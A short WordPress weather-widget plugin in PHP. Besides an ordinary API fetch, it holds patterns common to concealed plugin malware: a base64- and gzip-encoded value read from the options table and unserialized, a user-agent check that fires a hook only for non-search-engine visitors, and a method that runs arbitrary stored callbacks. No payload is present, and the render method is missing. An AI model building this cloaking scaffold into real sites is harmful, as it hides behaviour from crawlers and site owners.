<?php
/*
Plugin Name: Thời tiết
*/
namespace Example\Weather;

defined('ABSPATH') || exit;

class Weather extends \WP_Widget
{
    private array $callbacks = [];

    public function call(string $name, ...$arguments)
    {
        $function = $this->callbacks[$name];
        return $function(...$arguments);
    }

    public function fetch(): array
    {
        $answer = wp_remote_get('https://thoitiet.example.vn/api?tinh=dien-bien');
        return json_decode(wp_remote_retrieve_body($answer), true);
    }

    public function cached(): string
    {
        $data = gzuncompress(base64_decode(get_option('weather')));
        $is_bot = preg_match('/googlebot|bingbot|coccoc/i', $_SERVER['HTTP_USER_AGENT'] ?? '');
        if (!$is_bot) {
            do_action('weather_visit');
        }
        return call_user_func([$this, 'render'], unserialize($data, ['allowed_classes' => false]));
    }
}
add_action('widgets_init', fn () => register_widget(Weather::class));
